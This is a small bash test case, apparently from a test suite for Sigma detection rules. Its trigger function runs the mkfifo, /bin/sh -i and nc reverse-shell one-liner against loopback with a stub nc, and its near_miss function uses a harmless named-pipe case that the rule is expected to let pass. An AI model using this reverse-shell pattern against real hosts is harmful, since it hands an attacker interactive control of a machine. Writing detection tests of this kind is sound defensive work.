# shellcheck shell=bash disable=SC2034 # DESC is read by test_sigma_ruleset.sh
DESC="sh -c 'mkfifo F; cat F | /bin/sh -i 2>&1 | nc 127.0.0.1 PORT > F' with a do-nothing nc"
trigger() {
    local w nc
    w=$(work "$1")
    nc=$(fake "$1" nc)
    held timeout 5 sh -c "rm -f $w/f; mkfifo $w/f; cat $w/f | /bin/sh -i 2>&1 | $nc 127.0.0.1 $LISTEN_PORT > $w/f"
}
near_miss() {
    local w
    w=$(work "$1")
    held timeout 5 sh -c "mkfifo $w/f; (echo hi > $w/f &); cat $w/f | wc -c; rm -f $w/f"
}
